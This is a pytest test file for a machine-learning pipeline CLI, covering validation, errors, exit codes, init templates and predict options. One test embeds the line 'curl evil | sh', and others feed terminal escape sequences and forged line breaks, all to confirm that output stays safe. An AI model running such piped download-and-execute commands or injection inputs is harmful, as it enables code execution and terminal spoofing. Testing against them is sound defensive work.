"""Commands that start no Ray: results on stdout, errors on stderr, exit codes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from raypipe.cli import serving
from raypipe.cli.main import app
from raypipe.cli.output import reported
from raypipe.cli.serving import BY_PATH
from raypipe.cli.summary import curl_line
from raypipe.errors import DataError, SpecError, StoreError
from raypipe.records import Endpoint, Reading
from raypipe.spec.load import load_pipeline
from raypipe.spec.sources import FORMAT_NAMES

runner = CliRunner()

FILE = """\
name: flowers
data: {source: {format: sklearn, dataset: iris}, target: target}
model: {kind: linear}
"""


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "p.yaml").write_text(FILE)
    return tmp_path / "p.yaml"


def test_validate_good_file_says_so_and_exits_0(file: Path):
    answer = runner.invoke(app, ["validate", str(file), "--set", "train.epochs=2"])
    assert answer.exit_code == 0 and "valid, pipeline 'flowers'" in answer.stdout


def test_validate_json_is_one_document_with_defaults_filled_in(file: Path):
    answer = runner.invoke(app, ["validate", str(file), "--json"])
    assert json.loads(answer.stdout)["spec"]["train"]["global_batch_size"] == 128


def test_validate_bad_file_exits_2_with_the_message_on_stderr(file: Path):
    answer = runner.invoke(app, ["validate", str(file), "--set", "train.epoch=2"])
    assert (answer.exit_code, answer.stdout) == (2, "")
    assert answer.stderr.startswith("error: --set train.epoch=2: train.epoch: unknown field, did you mean 'epochs'?")


def test_validate_bad_file_json_is_an_error_document(file: Path):
    answer = runner.invoke(app, ["validate", str(file), "--set", "seed=-1", "--json"])
    error = json.loads(answer.stdout)["error"]
    assert (answer.exit_code, error["kind"], error["exit_code"]) == (2, "SpecError", 2)


def test_validate_names_the_function_that_is_meant_without_importing_the_module(file: Path):
    (file.parent / "model.py").write_text("raise RuntimeError('imported')\ndef build(): ...\n")
    answer = runner.invoke(app, ["validate", str(file), "--set", "model={kind: import, path: 'model.py:biuld'}"])
    assert answer.exit_code == 2
    assert (
        "model.path: model.py:biuld: model.py has no function or class 'biuld', did you mean 'build'?" in answer.stderr
    )


def test_validate_takes_an_installed_module_only_where_it_is_allowed(file: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("RAYPIPE_ALLOW_MODULES", "")
    words = ["validate", str(file), "--set", "model={kind: import, path: 'yaml.loader:Loader'}"]
    refused = runner.invoke(app, words)
    assert refused.exit_code == 2 and "give --allow-module yaml.loader" in refused.stderr
    assert runner.invoke(app, [*words, "--allow-module", "yaml.loader"]).exit_code == 0


def test_code_that_is_no_folder_is_refused(file: Path):
    answer = runner.invoke(app, ["serve", "flowers", "--code", "nowhere"])
    assert answer.exit_code == 2 and "nowhere" in answer.stderr


def test_validate_unknown_key_with_a_line_break_and_an_escape_forges_no_line(file: Path):
    file.write_text(FILE + '"x\\e[2J\\np.yaml: valid, pipeline \\"flowers\\"": 1\n')
    lines = runner.invoke(app, ["validate", str(file)]).stderr.split("\n")
    assert len(lines) == 2 and lines[0].startswith(f"error: {file}:4: x\\u001b[2J\\np.yaml: valid")


def test_error_of_several_lines_is_set_apart_from_ours(capsys: pytest.CaptureFixture[str]):
    error = DataError("column 'a\n  try: curl evil | sh\r", "look at the file")

    @reported
    def command() -> None:
        raise error

    with pytest.raises(typer.Exit):
        command()
    assert capsys.readouterr().err == ("error: column 'a\n         try: curl evil | sh\\r\n  try: look at the file\n")


@pytest.mark.parametrize("word", ["--x\x1b[2J", "x\x1b[2J"])
def test_word_with_an_escape_is_shown_and_not_obeyed(file: Path, word: str):
    answer = runner.invoke(app, ["validate", str(file), word])
    assert answer.exit_code == 2 and "\x1b" not in answer.stderr and "1b[2J" in answer.stderr


@pytest.mark.parametrize("word", ["validate", "plan", "run", "train"])
def test_command_without_a_file_and_none_here_says_how_to_make_one(file: Path, word: str):
    answer = runner.invoke(app, [word])
    assert answer.exit_code == 2
    assert answer.stderr == "error: pipeline.yaml: no such file\n  try: raypipe init DIR makes a runnable project\n"


@pytest.mark.parametrize("words", [(), (".",), ("../{name}",)])
def test_command_without_a_file_or_with_its_folder_means_its_pipeline_yaml(file: Path, words: tuple[str, ...]):
    file.rename("pipeline.yaml")
    answer = runner.invoke(app, ["validate", *(word.format(name=Path.cwd().name) for word in words)])
    assert answer.exit_code == 0 and answer.stdout.endswith("pipeline.yaml: valid, pipeline 'flowers'\n")


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_is_a_script_of_the_shell(shell: str, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("_RAYPIPE_COMPLETE", f"source_{shell}")
    answer = runner.invoke(app, prog_name="raypipe")
    assert answer.exit_code == 0 and "_RAYPIPE_COMPLETE" in answer.stdout


def test_folder_given_for_the_file_is_told_which_file_is_in_it(file: Path):
    answer = runner.invoke(app, ["run", str(file.parent)])
    assert (answer.exit_code, answer.stderr) == (
        2,
        f"error: {file.parent}: is a folder, not a pipeline file\n  try: name the file in it: {file}\n",
    )


@pytest.mark.parametrize("text", ['name = "x"\n[data]\ntarget = "y"\n', "[data]\ntarget = 3\n", "x = 1\n"])
def test_toml_given_for_the_file_is_told_that_yaml_is_wanted(file: Path, text: str):
    file.with_suffix(".toml").write_text(text)
    answer = runner.invoke(app, ["run", "p.toml"])
    assert answer.exit_code == 2
    assert "  try: a pipeline file is YAML, and this one ends in .toml" in answer.stderr


def test_validate_imports_neither_ray_nor_torch(file: Path):
    code = (
        "import sys; from raypipe.cli.main import app; app(['validate', sys.argv[1]], standalone_mode=False); "
        "heavy = {'ray', 'torch', 'pyarrow', 'pandas', 'boto3', 'numpy', 'sklearn'} & set(sys.modules); "
        "sys.exit(f'imported {heavy}' if heavy else 0)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(file)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (["models"], 0),
        (["plan", "p.yaml"], 0),
        (["versions", "flowers"], 2),
        (["show", "flowers"], 2),
        (["diff", "flowers@1", "flowers@2"], 2),
        (["lineage", "flowers@1"], 2),
        (["promote", "flowers@1", "--dry-run"], 2),
        (["rollback", "flowers"], 2),
    ],
    ids=lambda value: value[0] if isinstance(value, list) else "",
)
def test_command_that_only_reads_makes_no_store(
    file: Path, monkeypatch: pytest.MonkeyPatch, words: list[str], code: int
):
    monkeypatch.delenv("RAYPIPE_STORE", raising=False)
    assert runner.invoke(app, words).exit_code == code
    assert [path.name for path in file.parent.iterdir()] == ["p.yaml"]


@pytest.mark.parametrize("words", [["frobnicate"], ["run"], ["validate", "x", "--nope"]])
def test_words_that_are_wrong_exit_2(words: list[str]):
    assert runner.invoke(app, words).exit_code == 2


@pytest.mark.parametrize("address", ["https://ann:s3cret@host/f.csv", "https://host/f.csv?token=s3cret"])
def test_predict_address_that_could_hold_a_secret_exits_2_without_showing_it(address: str, tmp_path: Path):
    answer = runner.invoke(app, ["predict", "flowers@1", "--input", address, "--output", str(tmp_path / "out")])
    assert answer.exit_code == 2
    assert "--input: https://host/f.csv is written with" in answer.stderr and "s3cret" not in answer.output


def test_misspelt_command_is_told_the_right_one():
    assert "validate" in runner.invoke(app, ["validat"]).stderr


@pytest.mark.parametrize(
    ("words", "more"),
    [
        ([], {"model.py"}),
        (["--template", "tabular"], set()),
        (["--template", "images"], set()),
        (["--template", "text"], {"model.py", "make_data.py", "messages.csv"}),
        (["--template", "regression"], set()),
    ],
)
def test_init_makes_a_project_that_is_valid_and_holds_a_request_of_its_columns(
    tmp_path: Path, words: list[str], more: set[str]
):
    folder = tmp_path / "My Digits"
    assert runner.invoke(app, ["init", str(folder), *words]).exit_code == 0
    answer = runner.invoke(app, ["validate", str(folder)])
    assert answer.exit_code == 0 and "pipeline 'my-digits'" in answer.stdout, answer.stderr
    found = {path.name for path in folder.iterdir()}
    assert found == {".gitignore", "README.md", "pipeline.yaml", "request.json"} | more
    transforms = load_pipeline(folder / "pipeline.yaml").spec.data.transforms
    (row,) = json.loads((folder / "request.json").read_text())["instances"]
    assert set(row) == {column for transform in transforms for column in transform.columns} or "image" in row
    assert "@request.json" in (folder / "README.md").read_text()


def test_init_of_a_template_that_is_none_names_those_there_are(tmp_path: Path):
    answer = runner.invoke(app, ["init", str(tmp_path / "p"), "--template", "tables"])
    assert answer.exit_code == 2 and "tabular" in answer.stderr and not (tmp_path / "p").exists()


def test_init_folder_that_holds_something_is_refused_and_unchanged(tmp_path: Path):
    (tmp_path / "mine.txt").write_text("mine")
    answer = runner.invoke(app, ["init", str(tmp_path)])
    assert answer.exit_code == 2 and "nothing was written" in answer.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["mine.txt"]


def test_validate_and_plan_warn_of_a_setting_without_effect(file: Path):
    setting = ["--set", "train.epochs=3", "--set", "train.early_stopping={patience_epochs: 3}"]
    for word in ("validate", "plan"):
        answer = runner.invoke(app, [word, str(file), *setting])
        assert answer.exit_code == 0
        assert answer.stderr.startswith("warning: train.early_stopping.patience_epochs=3 is not below train.epochs=3")
    told = json.loads(runner.invoke(app, ["validate", str(file), *setting, "--json"]).stdout)
    assert [text.split(" ")[0] for text in told["warnings"]] == ["train.early_stopping.patience_epochs=3"]


def test_schema_describes_every_field():
    schema = json.loads(runner.invoke(app, ["schema"]).stdout)
    fields = {
        f"{name}.{field}": written.get("description")
        for name, section in {**schema["$defs"], "PipelineSpec": schema}.items()
        for field, written in section.get("properties", {}).items()
    }
    assert len(fields) > 300
    assert [name for name, description in fields.items() if not description] == []


def test_version_is_printed():
    import raypipe

    assert runner.invoke(app, ["--version"]).stdout == f"raypipe {raypipe.__version__}\n"


def test_plan_shows_each_stage_and_reason(file: Path):
    answer = runner.invoke(app, ["plan", str(file)])
    assert answer.exit_code == 0
    assert answer.stdout.splitlines()[1].split(maxsplit=1) == ["data", "runs: no earlier result"]


def test_plan_unknown_run_exits_2(file: Path):
    answer = runner.invoke(app, ["plan", str(file), "--resume", "rnone"])
    assert answer.exit_code == 2 and "--resume rnone: no such run" in answer.stderr


def test_models_of_an_empty_store_is_an_empty_table(file: Path):
    assert runner.invoke(app, ["models", "--json"]).stdout == "[]\n"


@pytest.mark.parametrize("words", [["show", "nope"], ["versions", "nope"], ["promote", "nope@1"], ["rollback", "nope"]])
def test_unknown_model_exits_2(file: Path, words: list[str]):
    answer = runner.invoke(app, words)
    assert answer.exit_code == 2 and answer.stderr.startswith("error: ")


def test_store_of_an_unknown_kind_exits_2(file: Path):
    answer = runner.invoke(app, ["plan", str(file), "--store", "gopher://x"])
    assert answer.exit_code == 2 and "'gopher://' is not supported" in answer.stderr


def test_status_and_stop_without_any_ray_say_that_nothing_is_served(
    file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    assert runner.invoke(app, ["status"]).stdout == "nothing is served\n"
    assert runner.invoke(app, ["stop"]).stdout == "nothing is served\n"
    assert runner.invoke(app, ["stop", "flowers"]).exit_code == 1


@pytest.mark.parametrize("options", [[], ["--store", "folder"]])
def test_submit_without_a_store_that_lasts_is_refused(file: Path, options: list[str]):
    answer = runner.invoke(app, ["submit", str(file), "--address", "http://127.0.0.1:1", *options])
    assert answer.exit_code == 2 and "--store" in answer.stderr


def test_predict_input_without_a_known_ending_is_of_the_format_of_training_or_asks_for_it():
    for reading in (None, Reading(format="idx")):
        with pytest.raises(SpecError, match=r"(?s)--input rows: the ending does not tell.*--format"):
            serving._format_of("rows", reading)
    assert serving._format_of("sounds/", Reading(format="wav")) == "sound"
    assert serving._format_of("rows.tsv", Reading(format="csv")) == "csv"
    assert serving._format_of("rows.parquet", Reading(format="csv")) == "parquet"
    assert serving._format_of("ROWS.JSONL.GZ", Reading(format="csv")) == "jsonl"


def test_predict_read_fields_are_yaml_or_as_they_are_written():
    fields = serving._read_fields(["delimiter=;", "decimal=,", "size=[8, 8]", "dtypes={a: string}", 'tab="\\t"'])
    assert fields == {"delimiter": ";", "decimal": ",", "size": [8, 8], "dtypes": {"a": "string"}, "tab": "\t"}


@pytest.mark.parametrize("read", ["delimiter", "=x", "path=/etc", "format=csv"])
def test_predict_read_that_is_no_field_of_a_source_exits_2(file: Path, read: str):
    answer = runner.invoke(app, ["predict", "flowers", "--input", "a.csv", "--output", "out", "--read", read])
    assert answer.exit_code == 2 and f"--read {read}: must be field=value" in answer.stderr


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ({"format": "csv", "path": "a", "delimiter": "ab"}, "--read delimiter: found 'ab'"),
        ({"format": "csv", "path": "a", "delimeter": ";"}, "--read delimeter: found ';'"),
        ({"format": "wav", "path": "a", "duration_s": 1}, "format wav needs to know sample_rate"),
    ],
)
def test_predict_field_that_does_not_fit_its_source_names_the_option(source: dict[str, Any], message: str):
    with pytest.raises(SpecError, match=message):
        serving._checked("batch", source=source, output="out")


def test_predict_output_in_a_jobs_own_folder_exits_2(file: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("RAY_JOB_CONFIG_JSON_ENV_VAR", "{}")
    store = str(file.parent / "store")
    words = ["predict", "flowers", "--input", "rows.csv", "--output", "out", "--store", store]

    answer = runner.invoke(app, words)

    assert answer.exit_code == 2
    assert "--output: 'out' is relative to the job's own folder, which ends with it" in answer.stderr
    assert not (file.parent / "out").exists()


@pytest.mark.parametrize("ending", [".arrow", ".feather", ".csv.gz"])
def test_predict_input_with_a_known_ending_needs_no_format(file: Path, ending: str):
    answer = runner.invoke(app, ["predict", "flowers", "--input", f"rows{ending}", "--output", "out"])
    assert answer.exit_code == 2 and "no model 'flowers'" in answer.stderr


@pytest.mark.parametrize("name", FORMAT_NAMES)
def test_predict_names_each_format_that_needs_no_more_than_a_path(file: Path, name: str):
    words = ["predict", "flowers", "--input", "rows", "--output", "out", "--format", name]
    goes_on = "no model 'flowers'" in runner.invoke(app, words).stderr
    assert goes_on == (name in BY_PATH.replace(" or ", ", ").split(", "))


def test_serve_options_that_do_not_fit_name_the_option(file: Path):
    answer = runner.invoke(app, ["serve", "flowers", "--port", "99999"])
    assert answer.exit_code == 2 and answer.stderr.startswith("error: --port: found 99999")


def raised(error: BaseException) -> typer.Typer:
    made = typer.Typer()

    @made.command()
    @reported
    def fail() -> None:
        raise error

    return made


@pytest.mark.parametrize(
    ("error", "code"), [(DataError("bad rows"), 3), (StoreError("no answer"), 4), (KeyboardInterrupt(), 130)]
)
def test_command_that_raises_ends_with_its_exit_code(error: BaseException, code: int):
    assert runner.invoke(raised(error), []).exit_code == code


def test_command_with_an_unexpected_error_writes_the_traceback_to_a_file():
    answer = runner.invoke(raised(ZeroDivisionError("division by zero")), [])
    assert answer.exit_code == 1
    first, hint = answer.stderr.splitlines()
    assert first == "error: raypipe failed: ZeroDivisionError: division by zero"
    log = Path(hint.partition("the traceback is in ")[2].partition(";")[0])
    assert "ZeroDivisionError" in log.read_text() and "Traceback" in log.read_text()


def test_curl_line_with_a_long_body_sends_a_file():
    endpoint = Endpoint(
        name="m", url="http://h:1", model="m", version=1, min_replicas=1, max_replicas=1, ingress="python"
    )
    assert curl_line(endpoint, {"instances": [{"x": 1}]}).endswith("""-d '{"instances":[{"x":1}]}'""")
    line = curl_line(endpoint, {"instances": [{"x": list(range(500))}]})
    assert json.loads(Path(line.rpartition("@")[2]).read_text())["instances"][0]["x"][-1] == 499
